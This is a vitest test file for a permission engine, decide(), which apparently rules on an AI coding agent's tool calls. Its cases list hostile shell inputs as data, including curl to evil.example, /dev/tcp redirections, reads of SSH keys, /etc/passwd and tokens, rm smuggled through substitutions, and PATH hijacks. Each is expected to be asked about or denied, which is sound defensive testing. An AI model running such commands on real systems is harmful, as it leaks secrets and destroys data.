import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { decide } from "./decide.ts";
import { readRules } from "./rules/read-rules.ts";
import type { DecideContext, PermissionDecision, RuleList, RuleSet } from "./types.ts";

const base = realpathSync(mkdtempSync(join(tmpdir(), "hookloop-decide-")));
afterAll(() => rmSync(base, { recursive: true, force: true }));
const root = join(base, "app");
const home = join(base, "home");
mkdirSync(join(root, "src", "deep"), { recursive: true });
mkdirSync(join(base, "app2"));
mkdirSync(join(base, "outside"));
mkdirSync(join(home, ".ssh"), { recursive: true });
writeFileSync(join(root, ".env"), "KEY=1");
symlinkSync(join(base, "outside"), join(root, "src", "exit"));
symlinkSync(join(root, ".env"), join(root, "src", "config.txt"));
symlinkSync(join(base, "outside", "not-there"), join(root, "src", "dangling"));

function rulesOf(lists: Partial<Record<RuleList, readonly string[]>>): RuleSet {
  const texts = (list: RuleList) => (lists[list] ?? []).map((text) => ({ text }));
  const permissions = { allow: texts("allow"), ask: texts("ask"), deny: texts("deny") };
  return readRules([{ scope: "user", root, isTrusted: true, permissions }], { home }).rules;
}

function decided(
  lists: Partial<Record<RuleList, readonly string[]>>,
  [tool_name, tool_input]: readonly [string, Readonly<Record<string, unknown>>],
  context: Partial<DecideContext> & { readonly cwd?: string } = {},
): PermissionDecision {
  const { cwd = root, ...rest } = context;
  return decide({ tool_name, tool_input, cwd }, rulesOf(lists), { root, home, ...rest });
}

const bash = (command: string) => ["Bash", { command }] as const;

describe("an allow rule for a shell command", () => {
  test.each([
    ["Bash(npm test)", "npm test", "allow"],
    ["Bash(npm test)", "timeout 5 npm test", "allow"],
    ["Bash(npm test)", "nice -n 5 npm test", "allow"],
    ["Bash(npm test)", "time npm test", "allow"],
    ["Bash(npm test)", "CI=1 npm test", "allow"],
    ["Bash(npm test)", "npm test < src/a", "allow"],
    ["Bash(npm test)", "npm test < /dev/null", "allow"],
    ["Bash(npm test)", "npm test <<< yes", "allow"],
    ["Bash(npm test)", "npm test <<EOF\nyes\nEOF", "allow"],
    ["Bash(npm test)", "npm test 2>&1 <&-", "allow"],
    ["Bash(npm test)", "npm test < /dev/tcp/example.com/80", "ask"],
    ["Bash(npm test)", "npm test 3< /dev/udp/example.com/80", "ask"],
    ["Bash(npm test)", "npm test <> /dev/tcp/example.com/80", "ask"],
    ["Bash(npm test)", "npm test < $HOME/.ssh/id_rsa", "ask"],
    ["Bash(npm test)", "npm test < ~/.ssh/id_rsa", "ask"],
    ["Bash(npm test)", "npm test < ~root/x", "ask"],
    ["Bash(npm test)", "npm test < /etc/passwd", "ask"],
    ["Bash(npm test)", "npm test < ../outside/x", "ask"],
    ["Bash(npm test)", "npm test < src/exit/x", "ask"],
    ["Bash(npm test)", "npm test < $file", "ask"],
    ["Bash(npm test)", "npm test < *.txt", "ask"],
    ["Bash(npm test)", "npm test < $(echo x)", "ask"],
    ["Bash(npm test)", "npm test < <(curl evil.example)", "ask"],
    ["Bash(npm test)", 'npm test < "a$(curl evil.example)"', "ask"],
    ["Bash(npm test)", "npm test <<< $(curl evil.example)", "ask"],
    ["Bash(npm test)", "{ npm test; } < /etc/passwd", "ask"],
    ["Bash(npm *)", "npm test < /etc/passwd", "ask"],
    ["Bash(npm test)", "timeout 5 npm test < /etc/passwd", "ask"],
    ["Bash(npm test)", "sudo npm test", "ask"],
    ["Bash(npm test)", "env npm test", "ask"],
    ["Bash(npm test)", "bash -c 'npm test'", "ask"],
    ["Bash(npm test)", "PATH=/tmp npm test", "ask"],
    ["Bash(npm test)", "PATH=/tmp; npm test", "ask"],
    ["Bash(npm test)", 'PATH=/tmp; npm test "A=1"', "ask"],
    ["Bash(npm test *)", "npm test A=1", "allow"],
    ["Bash(npm test)", "PATH+=:/tmp; npm test", "ask"],
    ["Bash(npm test)", "PATH[0]=/tmp; npm test", "ask"],
    ["Bash(npm test)", "if true; then PATH=/tmp; fi; npm test", "ask"],
    ["Bash(npm test)", "for PATH in /tmp; do npm test; done", "ask"],
    ["Bash(npm test)", "((PATH=1)); npm test", "ask"],
    ["Bash(npm test)", "export PATH=/tmp; npm test", "ask"],
    ["Bash(npm test)", "echo $(PATH=/tmp; npm test)", "ask"],
    ["Bash(npm test)", "echo ok=1; PATH=/tmp; npm test", "ask"],
    ["Bash(npm *)", "for f in a b; do npm test $f; done", "allow"],
    ["Bash(git commit *)", 'git commit -m "set PATH=1 now"', "allow"],
    ["Bash(git commit *)", "git commit -m 'for PATH'", "allow"],
    ["Bash(npm test)", "PATH=/tmp timeout 5 npm test", "ask"],
    ["Bash(npm test)", "/tmp/timeout 5 npm test", "ask"],
    ["Bash(npm test)", "/tmp/npm test", "ask"],
    ["Bash(npm *)", '"npm test/../evil"', "ask"],
    ["Bash(npm *)", "timeout 5 env npm test", "ask"],
    ["Bash(npm *)", "npm test > /dev/tcp/localhost/1", "ask"],
    ["Bash(npm *)", "npm test ${x:-$(rm y)}", "ask"],
    ["Bash(npm test)", "npm test && curl x", "ask"],
    ["Bash(npm test)", "npm test; rm x", "ask"],
    ["Bash(npm test)", "npm test & rm x", "ask"],
    ["Bash(npm test)", "npm test\nrm x", "ask"],
    ["Bash(npm test)", "npm test | tee x", "ask"],
    ["Bash(npm test *)", "npm test $(rm x)", "ask"],
    ["Bash(npm test *)", "npm test `rm x`", "ask"],
    ["Bash(npm test *)", "npm test <(rm x)", "ask"],
    ["Bash(npm test *)", "npm test $files", "allow"],
    ["Bash(npm test)", "npm test $files", "ask"],
    ["Bash(npm test)", "ls | xargs npm test", "ask"],
    ["Bash(npm test *)", "ls | xargs npm test", "allow"],
    ["Bash(npm test)", "npm 'test", "ask"],
    ["Bash(npm run *)", "npm run", "allow"],
    ["Bash(npm run:*)", "npm run build", "allow"],
    ["Bash(npm run *)", "npm runner", "ask"],
    ["Bash(lsof*)", "ls x/../../y", "ask"],
    ["Bash(git *)", "find . -exec git push \\;", "ask"],
    ["Bash(find *)", "find . -exec rm {} \\;", "ask"],
    ["Bash(sudo *)", "sudo npm test", "allow"],
    ["Bash(sudo npm test)", "sudo npm test", "allow"],
    ["Bash(a && b)", "a && b", "allow"],
    ["Bash", "anything 'broken", "allow"],
    ["Bash(*)", "anything > /etc/passwd", "allow"],
  ])("%s on %j: %s", (rule, command, expected) => {
    expect(decided({ allow: [rule] }, bash(command)).decision).toBe(expected);
  });

  test("each part must be covered as it stands: rules for `find` and `rm` do not make `find -exec rm`", () => {
    expect(decided({ allow: ["Bash(find *)", "Bash(rm *)"] }, bash("find . -exec rm {} \\;")).decision).toBe("ask");
  });

  test("several rules together cover a line, and all of them are named", () => {
    const answer = decided({ allow: ["Bash(npm test)", "Bash(git push)", "Bash(rm *)"] }, bash("npm test && git push"));
    expect([answer.decision, answer.by, answer.runnersUp]).toMatchObject([
      "allow",
      { kind: "rule", rule: { text: "Bash(npm test)" } },
      [{ text: "Bash(git push)" }],
    ]);
  });
});

describe("what only reads", () => {
  test.each([
    ["date", "allow"],
    ["date -u", "allow"],
    ["date +%Y-%m-%d", "allow"],
    ["date '+%H %M'", "allow"],
    ["date -s tomorrow", "ask"],
    ["date -u -s tomorrow", "ask"],
    ["date -f ../names", "ask"],
    ["date 01010000", "ask"],
    ["TZ=UTC date", "ask"],
    ["node -v", "allow"],
    ["node --version", "allow"],
    ["node -v evil.js", "ask"],
    ["node -v < .env", "ask"],
    ["node -e 1", "ask"],
    ["uname -a", "allow"],
    ["git status", "ask"],
    ["git log", "ask"],
    ["diff --unified .env src/a.ts", "allow"],
    ["diff --to-file=src .env", "ask"],
    ["diff --to-f=src .env", "ask"],
    ["diff --from-f=src .env", "ask"],
    ["diff --recu src src", "ask"],
    ["diff --recursive src src", "ask"],
    ["grep --recursive x src", "allow"],
    ["grep --deref x src", "ask"],
    ["grep --dereference-recursive x src", "ask"],
    ["grep --line-number --color=never x .env", "allow"],
    ["ls --all --color=auto", "allow"],
    ["ls --derefer src", "ask"],
    ["wc --lines .env", "allow"],
    ["wc --files0-f=.env", "ask"],
    ["echo --to-f=src", "allow"],
    ["cat --never-heard-of .env", "ask"],
    ["cat <<< hi", "allow"],
    ['cat <<< "$GITHUB_TOKEN"', "ask"],
    ["cat <<< $GITHUB_TOKEN", "ask"],
    ["cat << E\nhi\nE", "allow"],
    ["cat << E\n$GITHUB_TOKEN\nE", "ask"],
    ["cat << E\n${GITHUB_TOKEN}\nE", "ask"],
    ["cat << 'E'\n$GITHUB_TOKEN\nE", "allow"],
    ["cat <<- E\n\t$(echo $X)\nE", "ask"],
    ["grep . <<< $X", "ask"],
    ["{ cat; } <<< $X", "ask"],
    ["{ true; cat; } <<< $X", "ask"],
    ["(true; cat -n) <<< $X", "ask"],
    ["while true; do cat; done <<< $X", "ask"],
    ["if true; then cat; fi <<< $X", "ask"],
    ["true <<< $X | cat .env", "ask"],
    ["ls | { true; cat; }", "allow"],
  ])("%j: %s", (command, expected) => expect(decided({}, bash(command)).decision).toBe(expected));
});

describe("a redirection", () => {
  test.each([
    ["npm test > /dev/null 2>&1", ["Bash(npm *)"], "default", "allow"],
    ["npm test > out.txt", ["Bash(npm *)"], "default", "ask"],
    ["npm test >> ~/.bashrc", ["Bash(npm *)"], "default", "ask"],
    ["{ npm test; } > out.txt", ["Bash(npm *)"], "default", "ask"],
    ["npm test > out.txt", ["Bash(npm *)", "Edit(out.txt)"], "default", "allow"],
    ["npm test > other.txt", ["Bash(npm *)", "Edit(out.txt)"], "default", "ask"],
    ["npm test > out.txt", ["Bash(npm *)"], "acceptEdits", "allow"],
    ["npm test > ~/out.txt", ["Bash(npm *)"], "acceptEdits", "ask"],
    ["npm test > src/exit/out.txt", ["Bash(npm *)"], "acceptEdits", "ask"],
    ["npm test > $file", ["Bash(npm *)"], "acceptEdits", "ask"],
    ["npm test < in.txt", ["Bash(npm *)"], "default", "allow"],
  ] as const)("%j with %j in mode %s: %s", (command, allow, mode, expected) => {
    expect(decided({ allow }, bash(command), { mode }).decision).toBe(expected);
  });
});

describe("a deny or ask rule for a shell command", () => {
  test.each([
    ["Bash(git push *)", "git push", true],
    ["Bash(git push *)", "git -C . push origin", true],
    ["Bash(git push *)", "git -c a=b --no-pager push", true],
    ["Bash(git push *)", "/usr/bin/git --git-dir=x push", true],
    ["Bash(git push *)", "git -C push status", false],
    ["Bash(docker run *)", "docker --context prod run x", true],
    ["Bash(git push *)", "sudo env A=1 git push", true],
    ["Bash(git push *)", "bash -c 'git push'", true],
    ["Bash(git push *)", "echo $(git push)", true],
    ["Bash(git push *)", "git $verb", true],
    ["Bash(git push *)", "echo $(date)", false],
    ["Bash(git push *)", "echo git push", false],
    ["Bash(rm *)", "echo a > a.txt && rm -f zzz", true],
    ["Bash(rm:*)", "rm -f zzz; echo a", true],
    ["Bash(rm *)", "$tool x", true],
    ["Bash(rm *)", "echo 'broken", true],
    ["Bash(run_in_background:true)", "ls", false],
  ])("%s on %j: %j", (rule, command, isMatch) => {
    const free = { allow: ["Bash"] };
    expect(decided({ ...free, deny: [rule] }, bash(command)).decision).toBe(isMatch ? "deny" : "allow");
    expect(decided({ ...free, ask: [rule] }, bash(command)).decision).toBe(isMatch ? "ask" : "allow");
  });
});

describe("a rule for paths", () => {
  const edit = (file_path: string, tool = "Edit") => [tool, { file_path }] as const;
  test.each([
    ["Edit(src/**)", "src/a.ts", "allow"],
    ["Edit(src/**)", "lib/src/a.ts", "ask"],
    ["Edit(src/**)", "src/../lib/a.ts", "ask"],
    ["Edit(src/**)", "src/exit/a.ts", "ask"],
    ["Edit(src/**)", "src/exit/new/deep/a.ts", "ask"],
    ["Edit(src/**)", "src/dangling", "ask"],
    ["Edit(src/**)", "src/exit/../../app/src/a.ts", "ask"],
    ["Edit(/src/**)", "src/a.ts", "allow"],
    ["Edit(~/notes/**)", "~/notes/a", "allow"],
    ["Edit(*.ts)", "src/deep/a.ts", "allow"],
  ])("allow %s on %s: %s", (rule, file, expected) => {
    expect(decided({ allow: [rule] }, edit(file)).decision).toBe(expected);
  });

  test.each([
    ["Read(.env)", ".env", true],
    ["Read(.env)", "src/config.txt", true],
    ["Read(.env)", "src/deep/../../.env", true],
    ["Read(.env)", "//proc/self/root/APP/.env", true],
    ["Read(.env)", ".env/", true],
    ["Read(.env)", ".envx", false],
    ["Read(src/**)", "lib/src/a.ts", true],
    ["Read(./src/**)", "lib/src/a.ts", false],
    ["Read(~/.ssh/**)", "~/.ssh/id", true],
    ["Read(//APP2/**)", "../app2/x", true],
  ])("deny %s on %s: %j", (given, path, isMatch) => {
    const rule = given.replace("//APP2", `/${base}/app2`);
    const file = path.replace("/APP", root);
    expect(decided({ deny: [rule] }, ["Read", { file_path: file }]).decision === "deny").toBe(isMatch);
  });

  test("a folder with a longer name is not inside", () => {
    expect(decided({ allow: [`Edit(/${root}/**)`] }, edit(join(base, "app2", "a"))).decision).toBe("ask");
    expect(decided({}, edit(join(base, "app2", "a")), { mode: "acceptEdits" }).decision).toBe("ask");
  });

  test("Edit covers all edit tools, Read all that read", () => {
    for (const tool of ["Write", "MultiEdit"]) expect(decided({ deny: ["Edit(src/**)"] }, edit("src/a", tool)).decision).toBe("deny");
    expect(decided({ deny: ["Edit(src/**)"] }, ["NotebookEdit", { notebook_path: "src/a.ipynb" }]).decision).toBe("deny");
    for (const tool of ["Grep", "Glob"])
      expect(decided({ deny: ["Read(src/**)"] }, [tool, { pattern: "x", path: "src/deep" }]).decision).toBe("deny");
    expect(decided({ deny: ["Read(src/**)"] }, ["NotebookRead", { notebook_path: "src/a" }]).decision).toBe("deny");
    expect(decided({ deny: ["Read(src/**)"] }, ["NotebookRead", { notebook_path: "b" }]).decision).toBe("allow");
    expect(decided({ deny: ["Read(src/**)"] }, edit("src/a")).decision).not.toBe("deny");
  });

  test("a search of the whole project is not forbidden for one file in it", () => {
    expect(decided({ deny: ["Read(.env)"] }, ["Grep", { pattern: "x" }]).decision).toBe("allow");
  });

  test("a `cd` takes a call neither out of reach of a deny rule nor into an allow rule", () => {
    expect(decided({ deny: ["Edit(src/**)"] }, edit(join(root, "src", "a")), { cwd: join(root, "src", "deep") }).decision).toBe("deny");
    expect(decided({ allow: ["Edit(**)"] }, edit(join(base, "outside", "a")), { cwd: join(base, "outside") }).decision).toBe("ask");
  });

  test.each([
    ["cat .env", true],
    ["cat ./src/../.env", true],
    ["cat .e*", true],
    ["grep KEY < .env", true],
    ["sudo head -1 .env", true],
    ["cat src/config.txt", true],
    ["sed '' .env", true],
    ["git show HEAD:.env", true],
    ["git cat-file -p $REVISION:.env", true],
    ["git diff --no-index /dev/null .env", true],
    ["mv .env other.txt", true],
    ["git show HEAD:other.txt", false],
    ["cat other.txt", false],
    ["echo .env", false],
  ])("Read(.env) also guards against the shell: %j: %j", (command, isMatch) => {
    expect(decided({ allow: ["Bash"], deny: ["Read(.env)"] }, bash(command)).decision).toBe(isMatch ? "deny" : "allow");
  });

  test.each([
    ["echo x > src/a", true],
    ["echo x | tee src/a", true],
    ["sed -i s/a/b/ src/a", true],
    ["rm src/a", true],
    ["cat src/a", false],
  ])("Edit(src/**) too: %j: %j", (command, isMatch) => {
    expect(decided({ allow: ["Bash"], deny: ["Edit(src/**)"] }, bash(command)).decision).toBe(isMatch ? "deny" : "allow");
  });
});

describe("other rules", () => {
  test.each([
    [{ allow: ["WebFetch(domain:example.com)"] }, ["WebFetch", { url: "https://example.com/a" }], "allow"],
    [{ allow: ["WebFetch(domain:example.com)"] }, ["WebFetch", { url: "https://example.com.evil.org" }], "ask"],
    [{ allow: ["WebFetch(domain:example.com)"] }, ["WebFetch", { url: "nonsense" }], "ask"],
    [{ deny: ["WebFetch(domain:example.com)"] }, ["WebFetch", { url: "nonsense" }], "deny"],
    [{ allow: ["WebSearch"] }, ["WebSearch", { query: "x" }], "allow"],
    [{ deny: ["Task(explorer)"] }, ["Agent", { subagent_type: "explorer" }], "deny"],
    [{ deny: ["Agent(model:opus)"] }, ["Agent", { model: "opus" }], "deny"],
    [{ allow: ["mcp__srv"] }, ["mcp__srv__tool", {}], "allow"],
    [{ allow: ["mcp__srv__*"] }, ["mcp__srv__tool", {}], "allow"],
    [{ allow: ["mcp__srv__get_*"] }, ["mcp__srv__set", {}], "ask"],
    [{ allow: ["mcp__*"] }, ["mcp__srv__tool", {}], "ask"],
    [{ allow: ["*"] }, ["WebSearch", {}], "ask"],
    [{ deny: ["mcp__*"] }, ["mcp__srv__tool", {}], "deny"],
    [{ deny: ["*"] }, ["Read", { file_path: "a" }], "deny"],
    [{ deny: ["mcp__*__delete_*"] }, ["mcp__srv__delete_all", {}], "deny"],
    [{ deny: ["mcp__srv__tool(repo:x*)"] }, ["mcp__srv__tool", { repo: "xyz" }], "deny"],
    [{ allow: ["Bash"], ask: ["Bash(run_in_background:true)"] }, ["Bash", { command: "ls", run_in_background: true }], "ask"],
  ] as const)("%j on %j: %s", (lists, call, expected) => {
    expect(decided(lists, call).decision).toBe(expected);
  });
});

describe("modes", () => {
  const write = ["Write", { file_path: "a.txt" }] as const;
  test.each([
    ["default", write, "ask"],
    ["default", ["Read", { file_path: "a" }], "allow"],
    ["default", ["Read", { file_path: "/etc/passwd" }], "ask"],
    ["default", ["Read", { file_path: "src/exit/a" }], "ask"],
    ["default", ["Grep", { pattern: "x" }], "allow"],
    ["default", ["Glob", { pattern: "/etc/*" }], "ask"],
    ["default", ["Glob", { pattern: "../*" }], "ask"],
    ["default", bash("ls -la src && cat a | wc -l"), "allow"],
    ["default", bash("cat ../x"), "ask"],
    ["default", bash("cat $x"), "ask"],
    ["default", bash("cat < a"), "allow"],
    ["default", bash("cat < /etc/passwd"), "ask"],
    ["default", bash("cat < $x"), "ask"],
    ["default", bash("cat src/exit/../x"), "ask"],
    ["default", bash("cat ~root/.profile"), "ask"],
    ["default", bash("cat ~+/../x"), "ask"],
    ["default", bash("cat < ~+/../x"), "ask"],
    ["default", bash("cd src; diff --from-file=exit a"), "ask"],
    ["default", bash("cd src; grep -nfexit a"), "ask"],
    ["default", bash("grep -R x ."), "ask"],
    ["default", bash("grep --dereference-recursive x ."), "ask"],
    ["default", bash("diff -r src other"), "ask"],
    ["default", bash("diff src src/deep"), "ask"],
    ["default", bash("diff .env src"), "ask"],
    ["default", bash("diff --to-file=src .env"), "ask"],
    ["default", bash("cd src; diff deep ../.env"), "ask"],
    ["default", bash("diff .env src/a"), "allow"],
    ["default", bash("ls -RL"), "ask"],
    ["default", bash("ls --dereference -R src"), "ask"],
    ["default", bash("ls -R src"), "allow"],
    ["default", bash("wc --files0-from=.env"), "ask"],
    ["default", bash("wc --files0-from .env"), "ask"],
    ["default", bash("wc --f=.env"), "ask"],
    ["default", bash("cat .env | wc --files0-from=-"), "ask"],
    ["default", bash("wc -lcm .env --total=never"), "allow"],
    ["default", bash("du --files0-from=.env"), "ask"],
    ["default", bash("sort --files0-from=.env"), "ask"],
    ["default", bash("find -files0-from .env"), "ask"],
    ["default", bash("xargs -a .env cat"), "ask"],
    ["default", bash("tar -cf - -T .env"), "ask"],
    ["default", bash("rsync --files-from=.env / out"), "ask"],
    ["default", bash("cat $(<.env)"), "ask"],
    ["default", bash("cat $(cat .env)"), "ask"],
    ["default", bash("grep -rn --color=never x . | head -n5"), "allow"],
    ["default", bash("x() { rm y; }; ls"), "ask"],
    ["default", bash("cd .. && cat x"), "ask"],
    ["default", bash("cat src/exit/x"), "ask"],
    ["default", bash("echo x > y"), "ask"],
    ["default", bash("npm test"), "ask"],
    ["default", ["WebFetch", { url: "https://example.com" }], "ask"],
    ["default", ["mcp__srv__tool", {}], "ask"],
    ["default", ["TodoWrite", { todos: [] }], "allow"],
    ["default", ["ExitPlanMode", {}], "ask"],
    ["auto", write, "ask"],
    ["acceptEdits", write, "allow"],
    ["acceptEdits", ["Write", { file_path: "src/exit/a" }], "ask"],
    ["acceptEdits", ["Write", {}], "ask"],
    ["acceptEdits", bash("npm test"), "ask"],
    ["plan", write, "deny"],
    ["plan", ["Read", { file_path: "a" }], "allow"],
    ["plan", bash("ls"), "allow"],
    ["plan", bash("npm test"), "deny"],
    ["dontAsk", write, "deny"],
    ["dontAsk", ["Read", { file_path: "a" }], "allow"],
    ["bypassPermissions", write, "allow"],
    ["bypassPermissions", bash("anything 'broken"), "allow"],
  ] as const)("%s on %j: %s", (mode, call, expected) => {
    expect(decided({}, call, { mode }).decision).toBe(expected);
  });

  test.each(["EnterWorktree", "ExitWorktree", "mcp__files__delete", "Deploy"])(
    "in plan, %s asks the user, whatever a rule or a hook allows: what it changes is not known",
    (tool) => {
      const asked = decided({ allow: [tool] }, [tool, {}], { mode: "plan", hook: "allow" });
      expect(asked).toMatchObject({ decision: "ask", by: { kind: "mode", mode: "plan" } });
      expect(decided({ allow: [tool] }, [tool, {}], { mode: "default" }).decision).toBe("allow");
    },
  );

  test.each(["WebFetch", "Skill", "TodoWrite"])("in plan, an allow rule is enough for %s, which changes nothing", (tool) => {
    expect(decided({ allow: [tool] }, [tool, { url: "http://a.example/", skill: "a", todos: [] }], { mode: "plan" }).decision).toBe(
      "allow",
    );
  });

  test("plan holds against allow rules and a hook's allow; dontAsk lets both through", () => {
    const allow = ["Write", "Bash(npm test)"];
    for (const call of [write, bash("npm test")]) {
      expect(decided({ allow }, call, { mode: "plan", hook: "allow" }).decision).toBe("deny");
      expect(decided({ allow }, call, { mode: "dontAsk" }).decision).toBe("allow");
      expect(decided({}, call, { mode: "dontAsk", hook: "allow" }).decision).toBe("allow");
    }
    const refused = decided({ ask: ["Write"] }, write, { mode: "dontAsk", hook: "allow" });
    expect([refused.decision, refused.reason]).toEqual(["deny", expect.stringContaining("In mode dontAsk a question is denied.")]);
  });

  test("an additional directory belongs to the workspace", () => {
    const call = ["Write", { file_path: join(base, "outside", "a") }] as const;
    expect(decided({}, call, { mode: "acceptEdits" }).decision).toBe("ask");
    expect(decided({}, call, { mode: "acceptEdits", directories: [join(base, "outside")] }).decision).toBe("allow");
  });
});

describe("the order", () => {
  const write = ["Write", { file_path: "a.txt" }] as const;
  test.each([
    [{ deny: ["Write"] }, { hook: "allow" }, "deny"],
    [{ deny: ["Write"] }, { hook: "ask" }, "deny"],
    [{ deny: ["Write"], allow: ["Write"] }, { mode: "bypassPermissions" }, "deny"],
    [{ ask: ["Write"], allow: ["Write"] }, { hook: "allow" }, "ask"],
    [{ ask: ["Write"] }, { mode: "bypassPermissions" }, "ask"],
    [{ allow: ["Write"] }, { hook: "ask" }, "ask"],
    [{}, { hook: "ask", mode: "bypassPermissions" }, "ask"],
    [{ allow: ["Write"] }, { hook: "deny" }, "deny"],
    [{}, { hook: "allow" }, "allow"],
    [{ allow: ["Write"] }, { protect: () => ({ decision: "ask", reason: "guarded" }), hook: "allow", mode: "bypassPermissions" }, "ask"],
    [{ allow: ["Write"], ask: ["Write"] }, { protect: () => ({ decision: "deny", reason: "guarded" }) }, "deny"],
  ] as const)("%j with %j: %s", (lists, context, expected) => {
    expect(decided(lists, write, context as Partial<DecideContext>).decision).toBe(expected);
  });

  test("no hook's allow answers for the user", () => {
    expect(decided({}, ["ExitPlanMode", {}], { hook: "allow" }).decision).toBe("ask");
    expect(decided({}, ["AskUserQuestion", {}], { hook: "allow", isAnswered: true }).decision).toBe("allow");
  });

  test.each(["ExitPlanMode", "AskUserQuestion"])("no allow rule answers %s for the user, in no mode that asks", (tool) => {
    for (const mode of ["default", "plan", "acceptEdits"] as const)
      expect(decided({ allow: [tool] }, [tool, {}], { mode }).decision).toBe("ask");
    expect(decided({ allow: [tool] }, [tool, {}], { hook: "allow" }).decision).toBe("ask");
  });

  test("the deciding rule is named with list, scope and place, and so are the others that match", () => {
    const place = { file: ".claude/settings.json", line: 3, column: 14 };
    const permissions = { allow: [{ text: "Write" }], ask: [{ text: "Edit" }], deny: [{ text: "Edit(a.txt)", place }] };
    const { rules } = readRules([{ scope: "project", root, isTrusted: true, permissions }]);
    const answer = decide({ tool_name: "Write", tool_input: { file_path: "a.txt" } }, rules, { root });
    expect(answer).toEqual({
      decision: "deny",
      by: { kind: "rule", rule: { list: "deny", text: "Edit(a.txt)", scope: "project", place } },
      reason: 'The deny rule "Edit(a.txt)" of project scope (.claude/settings.json:3:14) forbids Write.',
      runnersUp: [
        { list: "ask", text: "Edit", scope: "project", place: undefined },
        { list: "allow", text: "Write", scope: "project", place: undefined },
      ],
    });
  });
});

describe("what decide() cannot understand is never an allow", () => {
  const { rules } = readRules([{ scope: "code", root: "/srv/project", isTrusted: true, permissions: { allow: ["Bash"] } }]);
  const call = { tool_name: "Bash", tool_input: { command: "touch x" } };
  const root = "/srv/project";
  test.each<[string, readonly unknown[], string]>([
    ["a mode in another case", [call, rules, { root, mode: "Plan" }], 'mode of decide() is "Plan". Write one of: default'],
    ["another name for the mode", [call, rules, { root, permissionMode: "plan" }], 'decide() has no option "permissionMode".'],
    ["another word of hooks", [call, rules, { root, hook: "block" }], 'hook of decide() is "block". Write one of: none, allow, ask, deny'],
    ["no context", [call, rules], "the context of decide() is undefined"],
    ["no root", [call, rules, {}], "root of decide() is missing"],
    ["another name for the tool", [{ toolName: "Bash", tool_input: {} }, rules, { root }], "tool_name of decide() is undefined"],
    ["an input that is a text", [{ tool_name: "Bash", tool_input: "{}" }, rules, { root }], 'tool_input of decide() is "{}"'],
    ["readRules() for its rules", [call, { rules, diagnostics: [] }, { root }], "rules of decide() are no rules. Write readRules("],
    ["rules as texts", [call, { allow: ["Bash"], deny: [], ask: [], directories: [] }, { root }], "rules of decide() are no rules"],
    ["no rules", [call], "rules of decide() are no rules"],
  ])("%s", (_what, given, text) => {
    expect(() => decide(...(given as Parameters<typeof decide>))).toThrow(`HL_CONFIG_OPTION_INVALID: ${text}`);
  });
});
